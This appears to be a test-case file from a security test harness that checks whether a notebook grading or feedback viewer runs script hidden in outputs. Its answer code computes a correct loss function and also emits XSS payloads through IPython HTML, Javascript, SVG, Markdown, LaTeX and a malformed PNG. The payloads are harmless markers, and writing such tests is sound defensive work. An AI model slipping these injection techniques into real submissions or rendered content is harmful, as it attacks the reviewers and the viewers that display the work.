"""Class 4: script in outputs: IPython HTML with <script> and <img onerror>, Javascript, SVG with
onload, markdown and LaTeX outputs, and a PNG whose data breaks out of the <img src> attribute.
Every payload would set document.title or add an element with id "bbh-pwned"."""
CLASS = 4
TARGET = "test_loss"
MAX_SCORE = 1.0  # the answers are right: this attack is about the feedback, not the score
ANSWERS = {"loss": '''from IPython.display import HTML, Javascript, SVG, Markdown, display

PWN = "document.title='PWNED';var e=document.createElement('div');e.id='bbh-pwned';document.body.appendChild(e)"
display(HTML(f"<b>hi</b><script>{PWN}</script><img src=x onerror=\\"{PWN}\\">"
             f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe><a href='javascript:{PWN}'>link</a>"))
display(Javascript(PWN))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script></svg>'))
display(Markdown(f"<img src=x onerror=\\"{PWN}\\"> [click](javascript:{PWN})"))
display({"text/html": f"<script>{PWN}</script>", "text/plain": "plain fallback",
         "image/png": f'iVBORw0KGgo="><script>{PWN}</script><img src="x',
         "application/javascript": PWN, "text/latex": f"<script>{PWN}</script>"}, raw=True)
print(f"<script>{PWN}</script>")

def loss(w, x, y):
    return (w * x - y) ** 2
'''}
